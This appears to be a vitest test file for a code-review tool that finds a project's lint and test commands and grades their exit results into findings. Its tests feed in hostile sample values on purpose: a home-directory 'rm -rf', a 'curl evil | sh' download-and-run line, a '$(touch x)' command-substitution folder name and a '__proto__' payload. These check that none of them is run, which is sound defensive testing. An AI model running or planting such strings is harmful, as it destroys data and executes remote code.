import { expect, test } from 'vitest';
import { judgeCommand } from '#core/review/command-findings.js';
import { recogniseCommands } from '#core/review/commands.js';
import type { RecognisedCommand, RunMode } from '#core/review/plan.js';

function ids(files: Record<string, string>, mode: RunMode = 'fast'): string[] {
  return recognised(files, mode).map((command) => command.id);
}

function recognised(files: Record<string, string>, mode: RunMode = 'fast'): RecognisedCommand[] {
  return recogniseCommands(Object.keys(files), new Map(Object.entries(files)), mode);
}

const scripts = (names: Record<string, string>, more: object = {}) => JSON.stringify({ scripts: names, ...more });

test('npm: the quick scripts by their usual names; the whole test command with `all`, or for want of another', () => {
  const all = { typecheck: 'tsc', 'type-check': 'tsc', lint: 'eslint .', 'test:unit': 'vitest', test: 'everything' };
  expect(ids({ 'package.json': scripts(all) })).toEqual(['npm-typecheck', 'npm-lint', 'npm-test-unit']);
  expect(ids({ 'package.json': scripts(all) }, 'all')).toEqual([
    'npm-typecheck',
    'npm-lint',
    'npm-test-unit',
    'npm-test',
  ]);
  expect(ids({ 'package.json': scripts(all) }, 'none')).toEqual([]);
  expect(ids({ 'package.json': scripts({ test: 'mocha' }) })).toEqual(['npm-test']);
});

test('npm: placeholders, watchers and scripts of other names are never run; texts of scripts never become words', () => {
  const hostile = {
    test: 'echo "Error: no test specified" && exit 1',
    lint: 'eslint --watch',
    evil: 'rm -rf ~',
    '--x': 'x',
  };
  expect(ids({ 'package.json': scripts(hostile) })).toEqual([]);
  expect(ids({ 'package.json': '{"scripts": {"lint": "x"}, "__proto__": {"scripts": {}}}' })).toEqual([]);
  expect(ids({ 'package.json': 'not json' })).toEqual([]);
  const [lint] = recognised({ 'package.json': scripts({ lint: 'eslint; curl evil | sh' }) });
  expect(lint).toMatchObject({ program: 'npm', args: ['run', 'lint'], title: 'Lint: npm run lint' });
});

test('npm: the package manager is that of the lockfile, and dependencies are needed where there are some', () => {
  const text = scripts({ lint: 'x' }, { devDependencies: { eslint: '1' } });
  expect(recognised({ 'package.json': text, 'pnpm-lock.yaml': '' })[0]).toMatchObject({
    program: 'pnpm',
    needs: 'node_modules',
    install: 'pnpm install',
  });
  expect(recognised({ 'package.json': text, 'yarn.lock': '' })[0]).toMatchObject({ program: 'yarn' });
  expect(recognised({ 'package.json': text, 'package-lock.json': '' })[0]).toMatchObject({
    program: 'npm',
    install: 'npm ci',
  });
  expect(recognised({ 'package.json': scripts({ lint: 'x' }) })[0]).not.toHaveProperty('needs');
});

test('python, rust, go and java bring their own commands', () => {
  expect(ids({ 'pyproject.toml': '[tool.pytest.ini_options]\n' })).toEqual(['pytest']);
  expect(ids({ 'pyproject.toml': '[project]\n', 'tests/test_a.py': '' })).toEqual(['pytest']);
  expect(ids({ 'pyproject.toml': '[project]\n' })).toEqual([]);
  expect(ids({ 'Cargo.toml': '[package]\n' })).toEqual(['cargo-check', 'cargo-clippy', 'cargo-test-lib']);
  expect(ids({ 'Cargo.toml': '[package]\n' }, 'all')).toContain('cargo-test');
  expect(ids({ 'go.mod': 'module x\n' })).toEqual(['go-vet', 'go-test-short']);
  expect(ids({ 'pom.xml': '<project/>' })).toEqual(['mvn-test']);
  expect(recognised({ 'pom.xml': '<project/>' })[0]?.args).toContain('-o');
});

test('manifests below the top count only where the top has none; odd folder names make safe, distinct ids', () => {
  const lint = scripts({ lint: 'x' });
  expect(ids({ 'package.json': lint, 'web/package.json': lint })).toEqual(['npm-lint']);
  const odd = recognised({ 'web/package.json': lint, '$(touch x)/package.json': lint, '😀/package.json': lint });
  expect(new Set(odd.map((command) => command.id)).size).toBe(3);
  for (const command of odd) expect(command.id).toMatch(/^[a-z0-9][a-z0-9-]{0,63}$/);
  expect(odd.map((command) => command.folder)).toContain('$(touch x)');
});

const LINT: RecognisedCommand = {
  id: 'npm-lint',
  title: 'Lint',
  kind: 'lint',
  program: 'npm',
  args: ['run', 'lint'],
  folder: '',
  install: 'npm ci',
};
const end = { code: 0, end: 'exited', output: '', timeMs: 60_000 } as const;

test('the end of a command becomes a finding of fitting severity, or none', () => {
  expect(judgeCommand(LINT, end)).toEqual([]);
  expect(judgeCommand(LINT, { ...end, code: 1 })[0]).toMatchObject({ severity: 'medium', rule: 'command-lint-failed' });
  expect(judgeCommand({ ...LINT, kind: 'unit' }, { ...end, code: 1 })[0]).toMatchObject({ severity: 'high' });
  expect(judgeCommand(LINT, { ...end, code: null, end: 'timed-out' })[0]).toMatchObject({
    severity: 'info',
    rule: 'command-timeout',
  });
  expect(judgeCommand(LINT, { ...end, code: null, end: 'missing' })[0]).toMatchObject({
    severity: 'info',
    rule: 'command-not-run',
  });
  expect(judgeCommand(LINT, { ...end, code: 127, output: 'sh: 1: eslint: not found' })[0]).toMatchObject({
    rule: 'command-not-run',
  });
});

test('what fails in a package installed on this machine says nothing about the code', () => {
  const output =
    "E   ImportError: cannot import name 'stream' from 'parcel.io' (/usr/lib/python3.11/site-packages/parcel/io.py)\n1 error";
  const installed = judgeCommand({ ...LINT, kind: 'unit' }, { ...end, code: 2, output })[0];
  expect(installed).toMatchObject({ severity: 'info', rule: 'command-not-run' });
  expect(installed?.detail).toContain('installed on this machine');
  // The same error in the repository's own package is one of the code.
  const ours = output.replace('/usr/lib/python3.11/site-packages', '/home/ada/parcel/src');
  expect(judgeCommand({ ...LINT, kind: 'unit' }, { ...end, code: 2, output: ours })[0]?.severity).toBe('high');
});
